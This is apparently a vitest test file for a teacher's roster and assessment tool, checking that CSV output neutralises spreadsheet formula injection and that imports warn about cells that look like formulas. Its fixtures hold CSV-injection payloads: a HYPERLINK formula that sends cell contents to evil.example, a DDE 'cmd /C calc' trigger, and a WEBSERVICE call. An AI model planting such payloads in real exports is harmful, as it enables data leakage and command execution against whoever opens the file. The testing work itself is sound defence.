// Spreadsheet safety (OWASP CSV injection, peers.md §3.3): CSVs written for people neutralise cells
// a spreadsheet would run as formulas; the tool's own source files keep every value as typed.
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvText, formulaLikeCells, formulaWarnings, isFormulaLike, parseCsvText } from '../../src/store/csv.ts';
import { observationsText, parseObservations } from '../../src/store/observations-store.ts';
import { parseRoster, rosterText } from '../../src/store/roster-store.ts';
import { copyExample, DOWNLOADS, run } from '../helpers.ts';

/** The fixture set peers.md asks for. */
export const TRIGGERS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-x', '@SUM(A1:A9)', '\tx', '\rx', '\nx', '\0x', '=1+1', '-2+3'];

describe('csvText with escapeFormulas', () => {
  it.each(TRIGGERS)('neutralises %j with a leading apostrophe', (cell) => {
    const text = csvText(['name'], [[cell]], { escapeFormulas: true });
    const back = (parse(text) as string[][])[1]![0];
    expect(back).toBe(`'${cell}`);
  });

  it.each(['-1', '-2.5', '-', '0', '3.25', 'Bob', 'a=b', ' =x'])('leaves %j alone (numbers stay numbers)', (cell) => {
    const back = (parse(csvText(['v'], [[cell]], { escapeFormulas: true })) as string[][])[1]![0];
    expect(back).toBe(cell);
  });

  it('without the option, values round-trip exactly', () => {
    for (const cell of TRIGGERS.filter((c) => !c.includes('\0'))) {
      const back = (parse(csvText(['v'], [[cell]])) as string[][])[1]![0];
      expect(back).toBe(cell);
    }
  });
});

describe("the tool's own files round-trip unchanged", () => {
  it('a roster with formula-like names and emails', () => {
    const text = [
      'id,given_name,family_name,section,email,status',
      'S001,=Bob,"+Smith, Jr",P2,@bob@example.org,active',
      'S002,-Ana,@Tab,P4,"=HYPERLINK(""http://x"")",withdrawn',
      '',
    ].join('\n');
    const { students, diagnostics } = parseRoster(new TextEncoder().encode(text));
    expect(diagnostics).toEqual([]);
    expect(students[0]!.givenName).toBe('=Bob');
    expect(rosterText(students)).toBe(text);
  });

  it('observation notes a student typed', () => {
    const text = 'student_id,standard,date,score,source,note\nS001,6.RP.A.1,2026-11-20,3,conference,"=WEBSERVICE(""http://x"")"\nS002,6.RP.A.1,2026-11-20,2,conference,-counted on fingers\n';
    const { observations } = parseObservations(new TextEncoder().encode(text));
    expect(observations.map((o) => o.note)).toEqual(['=WEBSERVICE("http://x")', '-counted on fingers']);
    expect(observationsText(observations)).toBe(text);
  });

  it('mastery --write leaves a roster name like "=Bob" as it is', async () => {
    const dir = copyExample();
    const roster = join(dir, 'roster.csv');
    const edited = readFileSync(roster, 'utf8').replace('S001,Aaliyah,', 'S001,=Bob,');
    writeFileSync(roster, edited);
    expect((await run(['mastery', '--write', '-q'], { cwd: dir })).code).toBe(0);
    expect(readFileSync(roster, 'utf8')).toBe(edited);
  });
});

describe('CSV printed for spreadsheets', () => {
  it('mastery --csv neutralises a formula-like level label from pathbook.yaml', async () => {
    const dir = copyExample();
    const settings = join(dir, 'pathbook.yaml');
    writeFileSync(settings, readFileSync(settings, 'utf8').replace('label: "Mastered"', 'label: "=HYPERLINK(\\"http://evil.example\\")"'));
    const r = await run(['mastery', '--csv'], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    const rows = parse(r.stdout) as string[][];
    const labels = new Set(rows.slice(1).map((row) => row[4]));
    expect(labels).toContain('\'=HYPERLINK("http://evil.example")');
    expect([...labels].filter((l) => l && isFormulaLike(l))).toEqual([]);
  });
});

describe('an import warns about formula-like cells and keeps them as typed', () => {
  it('roster import names the file, line and column', async () => {
    const dir = copyExample();
    const file = join(dir, '..', 'class-list.csv');
    writeFileSync(file, 'Student ID,First Name,Last Name,Period,Email\nS029,"=HYPERLINK(""http://evil.example"",""x"")",Reyes,2,s029@students.example.org\nS030,Ana,@Lopez,4,\n');
    const r = await run(['roster', 'import', file], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/class-list.csv:2:2: warning: First Name: "=HYPERLINK\(\\"http:\/\/evil.example\\",\\"x\\"\)" starts like a spreadsheet formula/);
    expect(r.stderr).toMatch(/class-list.csv:3:3: warning: Last Name: "@Lopez" starts like a spreadsheet formula/);
    const roster = readFileSync(join(dir, 'roster.csv'), 'utf8');
    expect(roster).toContain('S029,"=HYPERLINK(""http://evil.example"",""x"")",Reyes,');
    expect(roster).toContain('S030,Ana,@Lopez,');
  });
});

describe('pathbook import notes formula-like answers once, and the responses round-trip', () => {
  it('a student typed =HYPERLINK(…) as an answer', async () => {
    const dir = copyExample();
    const downloads = join(dir, '..', 'downloads');
    mkdirSync(downloads);
    const src = readFileSync(join(DOWNLOADS, 'Exit ticket 11-20 (Responses).csv'), 'utf8');
    const evil = '=HYPERLINK(""http://evil.example/?""&A1,""click"")';
    writeFileSync(join(downloads, 'Exit ticket 11-20 (Responses).csv'), src.replace('"liam.obrien@students.example.org","2 / 4","4:3"', `"liam.obrien@students.example.org","2 / 4","${evil}"`));
    copyFileSync(join(DOWNLOADS, 'Exit ticket 11-20.map.yaml'), join(downloads, 'Exit ticket 11-20.map.yaml'));
    const r = await run(['import', join(downloads, 'Exit ticket 11-20 (Responses).csv')], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/note: 1 cell in .*Exit ticket 11-20 \(Responses\).csv starts like a spreadsheet formula \(first: line 3, Q1\. Which ratio is equivalent to 3:4\?: "=HYPERLINK/);
    // Kept (neutralised) in the responses file, and read back as the student typed it.
    const responses = readFileSync(join(dir, 'assessments', '2026-11-20-ratios-exit.responses.csv'), 'utf8');
    expect(responses).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    const { parseResponses } = await import('../../src/store/responses-store.ts');
    const back = parseResponses(new TextEncoder().encode(responses), 'x.csv');
    expect(Object.values(back.get('S005')!)).toContain('=HYPERLINK("http://evil.example/?"&A1,"click")');
  });
});

describe('formulaLikeCells, for importers to warn', () => {
  it('finds every trigger cell with its line and column, and not numbers', () => {
    const { table } = parseCsvText('name,answer,score\nAna,=1+1,-2\n"@Bob","ok",3\nCleo,"\tx",+4\n', 'responses.csv');
    const cells = formulaLikeCells(table!);
    expect(cells.map((c) => [c.line, c.column, c.value])).toEqual([[2, 2, '=1+1'], [3, 1, '@Bob'], [4, 2, '\tx'], [4, 3, '+4']]);
    const w = formulaWarnings(table!);
    expect(w[0]).toMatchObject({ severity: 'warning', source: { file: 'responses.csv', line: 2, column: 2 } });
    expect(w[0]!.message).toBe('answer: "=1+1" starts like a spreadsheet formula');
  });
});
